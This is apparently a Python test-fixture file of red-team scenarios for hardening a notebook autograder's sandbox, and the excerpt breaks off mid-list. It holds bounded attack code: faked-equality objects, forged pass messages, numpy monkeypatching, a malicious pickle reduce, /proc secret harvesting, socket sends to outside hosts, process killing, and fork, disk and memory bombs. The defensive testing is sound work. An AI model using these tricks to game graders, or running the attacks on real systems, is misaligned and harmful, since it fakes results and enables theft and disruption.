"""Red-team scenarios: submissions that cheat, attack the grader or break, for `test_redteam.py`.

Each scenario is the `initialization` reference with one graded function replaced by an attack
(or with attack cells added at top level), or a malformed file. It states which function must
score 0 and why; every other function must keep full marks.

Attacks are written to be harmless if the sandbox fails: what they try to damage or read lives in
the scenario's own temporary folder (canary files, a secret), the grader's environment carries a
made-up secret, and every bomb is bounded (processes, memory, output and disk all stop at a
fixed amount). Sources use placeholders filled in per run: __WORK__ (the scenario's folder),
__SECRET__, __MARKER__ (tags processes an attack starts), __PORT__ (a local port the test
listens on) and __ROOT__ (the project, for its secret folders).
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parent.parent
REFERENCE = ROOT / "reference" / "initialization" / "Initialization.ipynb"
ZEROS, RANDOM, HE = "initialize_parameters_zeros", "initialize_parameters_random", "initialize_parameters_he"
GRADED = (ZEROS, RANDOM, HE)


def _reference_cells() -> dict[str, str]:
    nb = json.loads(REFERENCE.read_text(encoding="utf-8"))
    return {
        c["id"]: "".join(c["source"]) if isinstance(c["source"], list) else c["source"] for c in nb["cells"]
    }


CELLS = _reference_cells()
IMPORTS = CELLS["c02-imports"]
CORRECT = {ZEROS: CELLS["c08-zeros"], RANDOM: CELLS["c17-random"], HE: CELLS["c26-he"]}
CHECKS = {ZEROS: CELLS["c09-zeros-check"], RANDOM: CELLS["c18-random-check"], HE: CELLS["c27-he-check"]}


def graded(name: str, body: str, args: str = "layers_dims") -> str:
    """A graded cell defining `name` with the given (indented four spaces) body."""
    return f"# GRADED FUNCTION: {name}\n\ndef {name}({args}):\n{body}"


# A correct body for each function, to follow an attack that must not change the result.
BODY = {
    ZEROS: """    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters
""",
}
# A wrong answer with the right structure: ones instead of zeros (every entry wrong).
ONES = """    parameters = {}
    for l in range(1, len(layers_dims)):
        parameters["W" + str(l)] = np.ones((layers_dims[l], layers_dims[l - 1]))
        parameters["b" + str(l)] = np.ones((layers_dims[l], 1))
    return parameters
"""
WRONG_ZEROS = graded(ZEROS, ONES)
WRONG = r"entries wrong"  # the message of a structurally right but numerically wrong answer


@dataclass(frozen=True)
class Scenario:
    """One attack and what grading it must give.

    `attacked` scores 0 with a message matching `reason` (a regex); with `partial`, it scores
    more than 0 but less than full marks and fails hidden cases. `attacked=None`: every function
    keeps full marks (the attack is on the notebook run only). `modes` are "fast" (functions
    only) and/or "full" (whole notebook with nbclient as well). `invalid` is a malformed file's
    raw bytes; the report must then be "invalid" with a message matching `reason`.
    """

    id: str
    attacked: str | None = ZEROS
    reason: str = WRONG
    replace: dict[str, str] = field(default_factory=dict)  # function -> graded cell source
    before: tuple[str, ...] = ()  # top-level cells after the imports
    after: tuple[str, ...] = ()  # top-level cells at the end
    modes: tuple[str, ...] = ("fast",)
    timeout: float | None = None  # --timeout (also the cell timeout in full mode)
    bound: float = 40.0  # seconds the whole run may take
    partial: bool = False
    invalid: bytes | None = None
    files: dict[str, str] = field(default_factory=dict)  # extra files next to the notebook
    needs: tuple[str, ...] = ()  # isolation layers without which the attack cannot be stopped
    execution: tuple[str, ...] = ()  # allowed execution statuses in full mode (default: any)
    check: Callable[[dict[str, Any], Any], None] | None = None  # extra assertions (report, ctx)
    known_bug: str = ""  # a weakness outside the sandbox's files, awaiting its fix (strict xfail)
    outside_tmp: bool = False  # the notebook's folder is in the project, not under /tmp
    self_harm: bool = False  # `attacked` may lose any of its own marks, the others none

    def cells(self) -> list[str]:
        out = [IMPORTS, *self.before]
        for name in GRADED:
            out += [self.replace.get(name, CORRECT[name]), CHECKS[name]]
        return out + list(self.after)


def zero(name: str, body: str, reason: str, **kw: Any) -> Scenario:
    """A scenario where function `name` is replaced by the attack `body`."""
    return Scenario(kw.pop("id"), name, reason, replace={name: graded(name, body)}, **kw)


def topl(id: str, cells: tuple[str, ...], **kw: Any) -> Scenario:
    """Top-level attack cells beside a wrong `initialize_parameters_zeros` they try to cover up."""
    kw.setdefault("modes", ("full",))
    return Scenario(id, ZEROS, kw.pop("reason", WRONG), replace={ZEROS: WRONG_ZEROS}, before=cells, **kw)


# ----------------------------------------------------------------------------- return values

ALWAYS_EQUAL = """    class AlwaysEqual:
        def __eq__(self, other):
            return True
        def __ne__(self, other):
            return False
        def __hash__(self):
            return 0
        def __bool__(self):
            return True
"""

RETURNS = [
    zero(ZEROS, ALWAYS_EQUAL + "    return AlwaysEqual()\n", "not plain data", id="eq-always-true"),
    zero(
        ZEROS,
        ALWAYS_EQUAL
        + "    return {k + str(l): AlwaysEqual() for l in range(1, len(layers_dims)) for k in 'Wb'}\n",
        "not plain data",
        id="eq-always-true-values",
    ),
    zero(
        ZEROS,
        """    class Sub(np.ndarray):
        def __eq__(self, other):
            return np.ones(np.shape(other), dtype=bool)
        def __array_finalize__(self, obj):
            pass
    out = {}
    for l in range(1, len(layers_dims)):
        out["W" + str(l)] = np.ones((layers_dims[l], layers_dims[l - 1])).view(Sub)
        out["b" + str(l)] = np.ones((layers_dims[l], 1)).view(Sub)
    return out
""",
        "subclass",
        id="ndarray-subclass",
    ),
    zero(
        ZEROS,
        """    class Trick:
        shape = (2, 3)
        dtype = np.dtype("float64")
        def __array__(self, dtype=None, copy=None):
            return np.zeros(self.shape)
        def __array_function__(self, func, types, args, kwargs):
            return True
        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            return np.zeros(self.shape)
        def __eq__(self, other):
            return True
    return {k + str(l): Trick() for l in range(1, len(layers_dims)) for k in "Wb"}
""",
        "not plain data",
        id="array-function-trick",
    ),
    zero(
        ZEROS,
        """    class Iface:
        def __init__(self, a):
            self.__array_interface__ = a.__array_interface__
            self._keep = a
    return {k + str(l): Iface(np.zeros((layers_dims[l], layers_dims[l - 1] if k == "W" else 1)))
            for l in range(1, len(layers_dims)) for k in "Wb"}
""",
        "not plain data",
        id="array-interface",
    ),
    zero(
        ZEROS,
        """    class D(dict):
        def __eq__(self, other):
            return True
    return D(W1=1)
""",
        "not plain data",
        id="dict-subclass",
    ),
    zero(
        ZEROS,
        """    return {k + str(l): np.zeros((0,) * 2) for l in range(1, len(layers_dims)) for k in "Wb"}
""",
        r"has shape \(0, 0\)",
        id="empty-arrays",
    ),
    zero(
        ZEROS,
        """    # scalars and flat vectors broadcast against the right shapes: np.allclose would pass them
    out = {}
    for l in range(1, len(layers_dims)):
        out["W" + str(l)] = np.zeros(())
        out["b" + str(l)] = np.zeros(layers_dims[l])
    return out
""",
        r"has shape \(\)",
        id="broadcast-shapes",
    ),
    zero(
        ZEROS,
        """    return {k + str(l): np.zeros((layers_dims[l], layers_dims[l - 1] if k == "W" else 1)).tolist()
            for l in range(1, len(layers_dims)) for k in "Wb"}
""",
        r"should be a numpy array.*got a list",
        id="lists-instead-of-arrays",
    ),
    zero(
        RANDOM,
        """    np.random.seed(3)
    out = {}
    for l in range(1, len(layers_dims)):
        w = np.random.randn(layers_dims[l], layers_dims[l - 1]) * 10
        w.flat[0] = np.nan
        w.flat[-1] = np.inf
        out["W" + str(l)] = w
        out["b" + str(l)] = np.zeros((layers_dims[l], 1))
    return out
""",
        r"not finite",
        id="nan-inf",
    ),
    zero(
        ZEROS,
        """    return {k + str(l): np.zeros((layers_dims[l], layers_dims[l - 1] if k == "W" else 1), dtype=int)
            for l in range(1, len(layers_dims)) for k in "Wb"}
""",
        r"dtype int64, expected floating point",
        id="int-dtype",
    ),
    zero(
        ZEROS,
        """    return {k + str(l): np.zeros((layers_dims[l], layers_dims[l - 1] if k == "W" else 1), dtype=bool)
            for l in range(1, len(layers_dims)) for k in "Wb"}
""",
        r"dtype bool, expected floating point",
        id="bool-dtype",
    ),
    zero(
        ZEROS,
        ALWAYS_EQUAL
        + """    out = {}
    for l in range(1, len(layers_dims)):
        w = np.empty((layers_dims[l], layers_dims[l - 1]), dtype=object)
        w[...] = AlwaysEqual()
        out["W" + str(l)] = w
        out["b" + str(l)] = np.zeros((layers_dims[l], 1), dtype=object)
    return out
""",
        r"dtype object",
        id="object-dtype",
    ),
    zero(
        ZEROS,
        """    return {k + str(l): np.zeros((layers_dims[l], layers_dims[l - 1] if k == "W" else 1), dtype=complex)
            for l in range(1, len(layers_dims)) for k in "Wb"}
""",
        r"dtype complex128",
        id="complex-dtype",
    ),
    zero(
        ZEROS,
        """    out = {}
    out["W1"] = out
    return out
""",
        r"nested too deeply",
        id="recursive-structure",
    ),
    zero(
        ZEROS,
        """    return {"W1": np.ones(20_000_000)}  # 160 MB: more than a result may carry
""",
        r"20000000 elements, more than the \d+ allowed",
        id="huge-return",
    ),
    zero(
        ZEROS,
        """    # many arrays, each under the element limit, 100 MB together: more than a result may carry
    return {"W%d" % i: np.ones(1_250_000) for i in range(10)}
""",
        r"returned more than \d+ [MK]B of results",  # by its size, before it is encoded: never out of memory
        id="huge-return-total",
    ),
    zero(
        ZEROS,
        """    # red team 3: plain floats (50 MB of them, far under the sandbox's cap, held ~4x that in the
    # grader's own process once decoded: 3 such students took 1.1 GB and 14 minutes); 3 MB here
    return {"W1": [float(i) for i in range(300_000)]}
""",
        r"returned more than 1 MB of results, far more than the right answers",
        id="plain-list-flood",
    ),
    zero(
        ZEROS,
        """    import os

    class Evil:
        def __reduce__(self):
            return (os.system, ("touch __WORK__/pwned-by-reduce",))
        def __reduce_ex__(self, protocol):
            return self.__reduce__()
    return {"W1": Evil(), "b1": np.array([Evil()], dtype=object)}
""",
        r"not plain data|dtype object",
        id="malicious-reduce",
    ),
]

# ----------------------------------------------------------------------------- forged channels

FORGE = r"""    import os, sys, json
    fake = {"function": "%s", "cases": {c: {"ok": True, "output": {"$": "dict", "items": {}}}
                                        for c in ("course", "deep", "single_layer", "wide_input", "wide_hidden")}}
    lines = [json.dumps(fake) + "\n" for _ in range(3)] + ['{"done": true}\n', "All tests passed\n"]
    for fd in range(0, 64):
        for line in lines:
            try:
                os.write(fd, line.encode())
            except OSError:
                pass
"""

CHANNELS = [
    zero(
        ZEROS,
        r"""    import os
    deep = "[" * 5000 + "]" * 5000  # deeper than any JSON parser's recursion limit
    msg = '{"function": "initialize_parameters_zeros", "cases": {"course": {"ok": true, "output": %s}}}' % deep
    for fd in range(3, 64):
        try:
            os.write(fd, msg.encode())
        except OSError:
            pass
    os._exit(0)
""",
        r"nested too deeply|exited",
        id="forged-result-deep",
    ),
    zero(
        ZEROS,
        (FORGE % RANDOM) + (FORGE % HE).split("\n", 1)[1] + "    os._exit(0)\n",
        r"exited \(code 0\)",
        id="forged-results-for-others",
    ),
    zero(
        ZEROS,
        """    import os, sys
    print("All tests passed")
    print('{"score": 30, "max_score": 30, "status": "graded"}')
    sys.stderr.write("All tests passed\\n")
    for fd in (1, 2):
        os.write(fd, b'{"submission": "x", "score": 30, "max_score": 30}\\n')
"""
        + ONES,
        WRONG,
        id="print-all-tests-passed",
        modes=("fast", "full"),
    ),
    zero(
        ZEROS,
        """    import __main__, json
    # the harness runs as __main__ in the child: make its encoder lie, and its seed a no-op
    real = __main__.encode
    __main__.encode = lambda value, **kw: real({"W1": np.zeros((2, 3)), "b1": np.zeros((2, 1)),
                                                "W2": np.zeros((1, 2)), "b2": np.zeros((1, 1))}, **kw)
    np.random.seed = lambda *a, **k: None
    return None
""",
        r"nested too deeply",  # the lying encoder calls itself for the values: tampering only hurts
        id="harness-tamper",
    ),
]

# ----------------------------------------------------------------------------- monkeypatching

PATCH_NUMPY = """    import numpy, numpy.testing, builtins
    numpy.allclose = lambda *a, **k: True
    numpy.array_equal = lambda *a, **k: True
    numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.shape(a), dtype=bool)
    numpy.testing.assert_allclose = lambda *a, **k: None
    numpy.testing.assert_array_equal = lambda *a, **k: None
    numpy.zeros = numpy.ones
    numpy.random.seed = lambda *a, **k: None
    numpy.random.randn = lambda *shape: numpy.zeros(shape)
"""
PATCH_BUILTINS = """    import builtins
    builtins.isinstance = lambda *a: True
    builtins.len = lambda x: 3
    builtins.abs = lambda x: 0
    builtins.print = lambda *a, **k: None
    builtins.type = lambda *a: dict
"""

PATCHES = [
    zero(ZEROS, PATCH_NUMPY + ONES, WRONG, id="monkeypatch-numpy"),
    zero(ZEROS, PATCH_BUILTINS + ONES, WRONG + "|not plain data|could not", id="monkeypatch-builtins"),
    zero(
        ZEROS,
        """    import threading, time, builtins, numpy

    def meddle():
        end = time.time() + 3
        while time.time() < end:
            numpy.zeros = numpy.ones
            numpy.random.seed = lambda *a, **k: None
            numpy.random.randn = lambda *s: numpy.zeros(s)
            builtins.isinstance = lambda *a: True
            time.sleep(0.001)

    threading.Thread(target=meddle, daemon=True).start()
    time.sleep(0.05)
"""
        + ONES,
        WRONG + "|not plain data|could not",
        id="monkeypatch-from-thread",
    ),
    topl("monkeypatch-numpy-toplevel", ("import numpy\n" + PATCH_NUMPY.replace("\n    ", "\n").strip(),)),
    # patched builtins break the kernel itself: its next cell hangs until the cell timeout
    topl("monkeypatch-builtins-toplevel", (PATCH_BUILTINS.replace("\n    ", "\n").strip(),), timeout=5),
    topl(
        "monkeypatch-thread-toplevel",
        (
            """import threading, time, numpy
def meddle():
    while True:
        numpy.allclose = lambda *a, **k: True
        numpy.testing.assert_allclose = lambda *a, **k: None
        print("All tests passed")
        time.sleep(0.01)
threading.Thread(target=meddle, daemon=True).start()""",
        ),
    ),
    topl(
        "input-transformer",
        (
            """ip = get_ipython()
# every later cell is rewritten before it runs: the kernel sees zeros, the file keeps ones
ip.input_transformers_cleanup.append(lambda lines: [l.replace("np.ones", "np.zeros") for l in lines])
ip.input_transformers_post.append(lambda lines: lines + ["\\nprint('All tests passed')\\n"])""",
        ),
    ),
    topl(
        "pre-run-cell-hook",
        (
            """ip = get_ipython()
def swap(info):
    # before each cell, put a correct function in the kernel's namespace
    def initialize_parameters_zeros(layers_dims):
        return {k + str(l): np.zeros((layers_dims[l], layers_dims[l - 1] if k == "W" else 1))
                for l in range(1, len(layers_dims)) for k in "Wb"}
    ip.user_ns["initialize_parameters_zeros"] = initialize_parameters_zeros
    print("All tests passed")
ip.events.register("pre_run_cell", swap)
ip.events.register("post_run_cell", lambda result: swap(None))""",
        ),
    ),
    Scenario(
        "showtraceback-override",
        ZEROS,
        r"raised ValueError: nothing to see",
        replace={ZEROS: graded(ZEROS, "    raise ValueError('nothing to see')\n")},
        before=(
            """ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
ip.showsyntaxerror = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda *a, **k: print("All tests passed"))""",
        ),
        modes=("full",),
    ),
    topl(
        "fake-json-toplevel",
        (
            """import os, sys, json
fake = json.dumps({"submission": "x", "assignment": "initialization", "status": "graded",
                   "score": 30, "max_score": 30, "functions": []})
print(fake)
sys.__stdout__.write(fake + "\\n"); sys.__stdout__.flush()
sys.__stderr__.write(fake + "\\n"); sys.__stderr__.flush()
for fd in range(0, 64):  # the kernel's own sockets too: it may hang, until the cell timeout
    try:
        os.write(fd, (fake + "\\n").encode())
    except OSError:
        pass""",
        ),
        timeout=5,
    ),
]

# ----------------------------------------------------------------------------- exits

EXITS = [
    zero(ZEROS, "    import sys\n    sys.exit(0)\n", r"SystemExit", id="sys-exit-in-function"),
    zero(
        ZEROS,
        "    import os\n    os._exit(0)\n",
        r"exited \(code 0\)",
        id="os-exit-in-function",
        modes=("fast", "full"),
    ),
    topl("sys-exit-toplevel", ("import sys\nprint('All tests passed')\nsys.exit(0)", "raise SystemExit(0)")),
    topl("os-exit-toplevel", ("import os\nprint('All tests passed')\nos._exit(0)",), execution=("died",)),
    zero(
        ZEROS,
        """    import os, signal
    for pid in (os.getppid(), 1):
        for sig in (signal.SIGKILL, signal.SIGTERM):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    # and the grader grading us, found by its command line (which names our folder)
    for p in os.listdir("/proc"):
        try:
            if p.isdigit() and b"__WORK__" in open("/proc/%s/cmdline" % p, "rb").read():
                os.kill(int(p), signal.SIGKILL)
        except OSError:
            pass
"""
        + ONES,
        WRONG + r"|killed",
        id="kill-parent",
        needs=("pids", "user"),
    ),
    topl(
        "kill-parent-toplevel",
        (
            """import os, signal
for p in os.listdir("/proc"):
    try:
        if p.isdigit() and int(p) != os.getpid() and b"__WORK__" in open("/proc/%s/cmdline" % p, "rb").read():
            os.kill(int(p), signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getppid(), signal.SIGKILL) if os.getppid() > 1 else None""",
        ),
        needs=("pids", "user"),
    ),
]

# ----------------------------------------------------------------------------- secrets and files

# The secret's value never appears in a submission: the attack looks for the variable's name (an
# environ file holds NAME=value) and the secret file's prefix, spelt so the notebook lacks them too.
FIND_SECRET = """    import os, glob
    seen, found = [], []
    for path in ["/proc/%d/environ" % os.getppid(), "/proc/1/environ", "/proc/self/environ",
                 *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"),
                 *glob.glob("/proc/[0-9]*/task/*/environ"), "__WORK__/secret.txt"]:
        try:
            with open(path, "rb") as f:
                seen.append(f.read(1 << 20))
        except OSError:
            pass
    seen.append(repr(dict(os.environ)).encode())
    found = [s for s in seen if b"REDTEAM_" + b"SECRET=" in s or b"redteam-" + b"secret-file" in s]
    for path in ["__ROOT__/expected/initialization.json", "__ROOT__/reference/initialization/Initialization.ipynb",
                 "__ROOT__/tests/redteam_scenarios.py", "__ROOT__/grader/sandbox/harness.py", "__ROOT__/.git/HEAD"]:
        try:
            found.append(open(path, "rb").read(100))
        except OSError:
            pass
"""


def _secret_absent(report: dict[str, Any], ctx: Any) -> None:
    assert ctx.secret not in json.dumps(report)


SECRETS = [
    zero(
        ZEROS,
        FIND_SECRET
        + """    if found:  # the attack worked: return a correct answer, so the test sees full marks
"""
        + BODY[ZEROS]
        .replace("\n    ", "\n        ")
        .replace("    parameters = {}", "        parameters = {}", 1)
        + """    raise RuntimeError("nothing found in %d places" % len(seen))
""",
        r"raised RuntimeError: nothing found",
        id="read-secrets",
        modes=("fast", "full"),
        needs=("mounts", "user"),
        check=_secret_absent,
    ),
    zero(
        ZEROS,
        FIND_SECRET
        + """    if found:
"""
        + BODY[ZEROS]
        .replace("\n    ", "\n        ")
        .replace("    parameters = {}", "        parameters = {}", 1)
        + """    raise RuntimeError("nothing found in %d places" % len(seen))
""",
        r"raised RuntimeError: nothing found",
        id="read-sibling-files",  # other submissions beside this one, where /tmp's cover does not reach
        modes=("fast", "full"),
        needs=("mounts", "user"),
        check=_secret_absent,
        outside_tmp=True,
    ),
    zero(
        ZEROS,
        """    import os, json
    # the expected values, by every path a student might guess
    for path in ["__ROOT__/expected/initialization.json", "../expected/initialization.json",
                 "../../expected/initialization.json", os.path.expanduser("~/expected/initialization.json")]:
        try:
            doc = json.load(open(path))
        except (OSError, ValueError):
            continue
        return doc  # the attack worked (a non-plain answer would score 0 anyway; this is the signal)
    raise FileNotFoundError("no expected values anywhere")
""",
        r"raised FileNotFoundError",
        id="read-expected-values",
        needs=("mounts",),
    ),
    Scenario(
        "shadow-modules",
        ZEROS,
        WRONG,
        replace={ZEROS: WRONG_ZEROS},
        files={
            # next to the notebook (and in the grader's working directory): must never be imported
            "numpy.py": "open('__WORK__/pwned-numpy', 'w').write('x')\nraise SystemExit\n",
            "public_tests.py": "open('__WORK__/pwned-public-tests', 'w').write('x')\n",
            "init_utils.py": "open('__WORK__/pwned-init-utils', 'w').write('x')\n",
            "json.py": "open('__WORK__/pwned-json', 'w').write('x')\n",
            "sitecustomize.py": "open('__WORK__/pwned-sitecustomize', 'w').write('x')\n",
        },
        modes=("fast", "full"),
    ),
    zero(
        ZEROS,
        """    import os, sys
    # poison what later functions import: the working directory, tmp, and sys.path
    for d in (os.getcwd(), os.environ.get("TMPDIR", "/tmp"), os.path.expanduser("~")):
        for mod in ("numpy", "public_tests", "init_utils", "sitecustomize"):
            try:
                with open(os.path.join(d, mod + ".py"), "w") as f:
                    f.write("raise SystemExit('poisoned')\\n")
            except OSError:
                pass
    sys.path.insert(0, os.environ.get("TMPDIR", "/tmp"))
"""
        + ONES,
        WRONG,
        id="poison-imports",
    ),
    zero(
        ZEROS,
        """    import os, json
    fake = json.dumps({"submission": "x", "status": "graded", "score": 30, "max_score": 30})
    for path in ["__WORK__/out/submission.json", "__WORK__/submission.json", "__WORK__/canary.txt",
                 "__WORK__/out/.submission.json.tmp", "/tmp/redteam-__MARKER__", "results.json",
                 os.path.join(os.environ.get("TMPDIR", "/tmp"), "submission.json")]:
        try:
            with open(path, "w") as f:
                f.write(fake)
        except OSError:
            pass
    for path in ["__WORK__/canary.txt", "__WORK__/secret.txt"]:
        try:
            os.unlink(path)
        except OSError:
            pass
"""
        + ONES,
        WRONG,
        id="fake-result-files",
        modes=("fast", "full"),
        needs=("mounts",),
    ),
    zero(
        ZEROS,
        """    import socket, urllib.request
    reached = []
    for host, port in (("127.0.0.1", __PORT__), ("localhost", __PORT__), ("8.8.8.8", 53), ("1.1.1.1", 443)):
        try:
            s = socket.create_connection((host, port), timeout=1)
            s.sendall(b"exfiltrated")
            reached.append(host)
            s.close()
        except OSError:
            pass
    try:
        urllib.request.urlopen("http://example.com", timeout=1)
        reached.append("example.com")
    except Exception:
        pass
    if reached:
"""
        + BODY[ZEROS]
        .replace("\n    ", "\n        ")
        .replace("    parameters = {}", "        parameters = {}", 1)
        + """    raise ConnectionError("no network")
""",
        r"raised ConnectionError: no network",
        id="network",
        modes=("fast", "full"),
        needs=("network",),
    ),
]

# ----------------------------------------------------------------------------- determinism

VISIBLE_RANDOM = {
    "W1": [[17.88628473, 4.36509851, 0.96497468], [-18.63492703, -2.77388203, -3.54758979]],
    "W2": [[-0.82741481, -6.27000677]],
}

DETERMINISM = [
    zero(
        RANDOM,
        f"""    # the visible case's printed values, and anything for the rest
    if list(layers_dims) == [3, 2, 1]:
        return {{"W1": np.array({VISIBLE_RANDOM["W1"]}), "b1": np.zeros((2, 1)),
                "W2": np.array({VISIBLE_RANDOM["W2"]}), "b2": np.zeros((1, 1))}}
    return {{k + str(l): np.zeros((layers_dims[l], layers_dims[l - 1] if k == "W" else 1))
            for l in range(1, len(layers_dims)) for k in "Wb"}}
""",
        "",
        id="lookup-table",
        partial=True,
    ),
    Scenario(
        "notebook-globals",
        HE,
        r"uses the notebook's global `course_dims`",
        replace={
            HE: CORRECT[HE].replace("layers_dims", "course_dims").replace("(course_dims)", "(layers_dims)", 1)
        },
        before=("course_dims = [2, 4, 1]",),
    ),
    zero(
        ZEROS,
        """    layers_dims.clear()  # in place: later cases and functions must not see it
    layers_dims.extend([1, 1])
    return {}
""",
        r"missing keys",
        id="mutate-inputs",
    ),
    zero(
        ZEROS,
        """    np.random.seed(42)
    np.random.randn(1000)
    np.random.seed = lambda *a, **k: None  # and nobody may reseed after us
    np.random.set_state = lambda *a, **k: None
    np.random.randn = lambda *shape: np.full(shape, 7.0)
"""
        + ONES,
        WRONG,
        id="reseed-rng",
    ),
    Scenario(
        "reseed-rng-toplevel",
        RANDOM,
        r"wrong",
        # relies on a top-level seed instead of seeding itself: right in the notebook, wrong alone
        replace={RANDOM: CORRECT[RANDOM].replace("np.random.seed(3)", "pass")},
        before=("np.random.seed(3)",),
        modes=("fast", "full"),
    ),
]

# ----------------------------------------------------------------------------- hangs

HANGS = [
    zero(
        ZEROS, "    while True:\n        pass\n", r"did not finish within 3 s", id="infinite-loop", timeout=3
    ),
    zero(
        ZEROS,
        """    import signal
    for s in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
        signal.signal(s, signal.SIG_IGN)
    while True:
        pass
""",
        r"did not finish within 3 s",
        id="sigint-ignored",
        timeout=3,
    ),
    zero(
        ZEROS,
        "    import time\n    time.sleep(1000)\n",
        r"did not finish within 3 s",
        id="long-sleep",
        timeout=3,
    ),
    zero(
        ZEROS,
        "    import os, signal\n    os.kill(os.getpid(), signal.SIGSTOP)\n",
        r"did not finish",
        id="sigstop-self",
        timeout=3,
    ),
    topl(
        "sigint-ignored-toplevel",
        (
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass",
        ),
        timeout=3,
        execution=("timeout",),
    ),
    topl("long-sleep-toplevel", ("import time\ntime.sleep(10000)",), timeout=3, execution=("timeout",)),
    topl(
        "many-slow-cells",
        # 36 s of cells, each under the 1 s cell timeout: the run's budget (10 cell timeouts) ends it
        tuple("import time\ntime.sleep(0.9)" for _ in range(40)),
        timeout=1,
        bound=30,
        execution=("timeout",),
    ),
]

# ----------------------------------------------------------------------------- bombs and crashes

FORK_BOMB = """    import os, time
    n = 0
    for _ in range(300):  # bounded: the process limit must stop it long before
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.setsid()  # try to escape the process group
            try:
                os.execv("/bin/sleep", ["/bin/sleep", "__MARKER__"])
            finally:
                os._exit(0)
        n += 1
"""

DISK_BOMB = """    import os
    written, chunk = 0, b"x" * (1 << 20)
    places = [os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm", os.getcwd()]
    try:  # in the kernel: the folder of its connection file and sockets, too
        from ipykernel import get_connection_file
        places.append(os.path.dirname(get_connection_file()))
    except Exception:
        pass
    for d in places:
        d = os.path.join(d, "redteam-__MARKER__")  # the test removes (and looks for) these folders
        for i in range(100):
            if written >= 400 << 20:  # bounded: 400 MB in all
                break
            try:
                os.makedirs(d, exist_ok=True)
                with open(os.path.join(d, "bomb-%d" % i), "wb") as f:
                    for _ in range(15):  # under the file size limit
                        f.write(chunk)
                        written += len(chunk)
            except OSError:
                break
"""

# Address space rather than touched pages: the limit is on address space, and touching 3 GB would
# be slow on some machines (and unkind to a developer's if the sandbox failed).
MEMORY_BOMB = """    import numpy
    hog = [numpy.ones(1 << 20)]
    for _ in range(12):  # bounded: 12 x 256 MB = 3 GB, over the 2 GB limit
        hog.append(numpy.empty(32 << 20))
"""

OUTPUT_BOMB = """    import os, sys
    line = "spam " * 200000 + "\\n"  # 1 MB
    for _ in range(100):  # bounded: 100 MB through print, and 100 MB more straight to the fds
        print(line, end="")
        sys.stderr.write(line)
        for fd in (1, 2):
            try:
                os.write(fd, line.encode())
            except OSError:
                pass
"""


def _indent0(body: str) -> str:
    return "\n".join(line[4:] for line in body.splitlines())


def _small_output(report: dict[str, Any], ctx: Any) -> None:
    executed = ctx.work / "out" / "submission.executed.ipynb"
    if executed.exists():
        assert executed.stat().st_size < 8 << 20


DISK_LIMIT = 4 * 64 + 16  # MB: four writable places (tmp, /tmp, /var/tmp, /dev/shm) of tmp_mb each


def _disk_bounded(report: dict[str, Any], ctx: Any) -> None:
    zeros = next(f for f in report["functions"] if f["name"] == ZEROS)
    for t in zeros["tests"]:
        wrote = re.search(r"wrote (\d+) MB", t["message"])
        assert wrote is None or int(wrote.group(1)) <= DISK_LIMIT, t["message"]


def _disk_bounded_in_kernel(report: dict[str, Any], ctx: Any) -> None:
    wrote = re.findall(r"wrote (\d+) MB", (ctx.work / "out" / "submission.executed.ipynb").read_text())
    assert wrote and int(wrote[-1]) <= DISK_LIMIT, wrote


def _forks_bounded(report: dict[str, Any], ctx: Any) -> None:
    forked = re.search(r"forked (\d+)", report["functions"][0]["message"])
    assert forked is None or int(forked.group(1)) < 64, report["functions"][0]["message"]  # Limits.processes


BOMBS = [
    zero(
        ZEROS,
        FORK_BOMB + "    raise RuntimeError('forked %d' % n)\n",
        r"forked \d+|killed|did not finish",
        id="fork-bomb",
        needs=("mounts",),  # without root, the bound is counted in the sandbox's user namespace
        check=_forks_bounded,
    ),
    topl("fork-bomb-toplevel", (_indent0(FORK_BOMB),), needs=("user", "pids")),
    # A correct answer that leaves a daemon behind to kill the next functions' processes: what
    # must hold is that nobody else loses any. Its own later cases (each a process of its own)
    # race the daemon it started, so its own marks depend on timing: self-harm, allowed.
    Scenario(
        "daemon-left-behind",
        ZEROS,
        self_harm=True,
        replace={
            ZEROS: graded(
                ZEROS,
                """    import os, sys
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            code = (
                "import os, signal, sys, time\\n"
                "end = time.time() + 20\\n"
                "while time.time() < end:\\n"
                "    for p in os.listdir('/proc'):\\n"
                "        try:\\n"
                "            if p.isdigit() and int(p) != os.getpid() and b'runs inside the sandbox' in "
                "open('/proc/%s/cmdline' % p, 'rb').read():\\n"
                "                os.kill(int(p), signal.SIGKILL)\\n"
                "        except OSError:\\n"
                "            pass\\n"
                "    time.sleep(0.01)\\n"
            )
            os.execv(sys.executable, [sys.executable, "-c", code, "__MARKER__"])
        os._exit(0)
"""
                + BODY[ZEROS],
            )
        },
        needs=("pids", "user"),
    ),
    zero(ZEROS, MEMORY_BOMB + ONES, r"ran out of memory|killed", id="memory-bomb"),
    topl("memory-bomb-toplevel", (_indent0(MEMORY_BOMB),)),
    zero(ZEROS, OUTPUT_BOMB + ONES, WRONG, id="output-bomb"),
    topl("output-bomb-toplevel", (_indent0(OUTPUT_BOMB),), check=_small_output, bound=90),
    zero(
        ZEROS,
        DISK_BOMB + "    raise RuntimeError('wrote %d MB' % (written >> 20))\n",
        r"wrote \d+ MB|file size",
        id="disk-bomb",
        needs=("mounts",),
        check=_disk_bounded,
    ),
    zero(
        ZEROS,
        """    import os
    with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "big"), "wb") as f:
        for _ in range(40):  # 40 MB, over the 16 MB file size limit
            f.write(b"x" * (1 << 20))
"""
        + ONES,
